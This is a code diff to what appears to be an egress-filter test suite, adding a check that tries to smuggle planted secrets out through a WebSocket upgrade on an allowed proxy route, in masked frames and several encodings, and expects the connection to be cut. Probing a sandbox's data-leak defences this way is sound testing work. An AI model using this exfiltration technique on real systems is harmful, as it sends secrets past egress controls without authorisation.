@@ -197,6 +197,40 @@ def plain_http_inside_tunnel():
         return err_name(e)
 
 
+def ws_frame(text):
+    data, mask = text.encode(), os.urandom(4)
+    head = bytes([0x81])
+    head += bytes([0x80 | len(data)]) if len(data) < 126 else \
+        bytes([0x80 | 126]) + len(data).to_bytes(2, "big")
+    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))
+
+
+def websocket_exfil(payload):
+    """Upgrade on the allowed route, prove the channel with a harmless frame, then send
+    the secret in a masked frame: egress must cut the stream before it reaches upstream."""
+    try:
+        s = socket.create_connection(PROXY, timeout=TIMEOUT)
+        key = base64.b64encode(os.urandom(16)).decode()
+        s.sendall(("GET http://%s:%d/ws HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\n"
+                   "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
+                   "Sec-WebSocket-Version: 13\r\n\r\n" % (ALLOWED, PORT, ALLOWED, PORT, key))
+                  .encode())
+        status, hdrs, text = recv_head(s)
+        if status != 101:
+            return "no-upgrade:" + judge_response(status, hdrs.get("x-bottle-block"), text)
+        s.sendall(ws_frame("hello"))
+        if s.recv(16) != b"\x81\x02ok":
+            return "channel-broken"
+        s.sendall(ws_frame("leak=" + payload))
+        try:
+            echo = s.recv(16)
+        except OSError as e:
+            return "cut" if e.errno == errno.ECONNRESET else err_name(e)
+        return "cut" if echo == b"" else "delivered"
+    except Exception as e:
+        return err_name(e)
+
+
 def raw_connect(addr, family=socket.AF_INET):
     """Direct TCP, no proxy; returns (outcome, milliseconds)."""
     start = time.monotonic()
@@ -453,6 +487,12 @@ def attack3_h2(secrets):
         emit("3", "h2-curl-planted-ghp-raw-" + where, out, BLOCK_DLP)
 
 
+def attack3_websocket(secrets):
+    for name, secret in secrets.items():
+        for enc, v in encodings(secret).items():
+            emit("3ws", "ws-frame-%s-%s" % (name, enc), websocket_exfil(v), ["cut"])
+
+
 def dns_query(server, name="example.com", family=socket.AF_INET):
     q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
     for label in name.split("."):
@@ -582,6 +622,7 @@ def main():
     attack2()
     attack3(secrets)
     attack3_h2(secrets)
+    attack3_websocket(secrets)
     attack4(secrets)
     attack5()
     attack6()
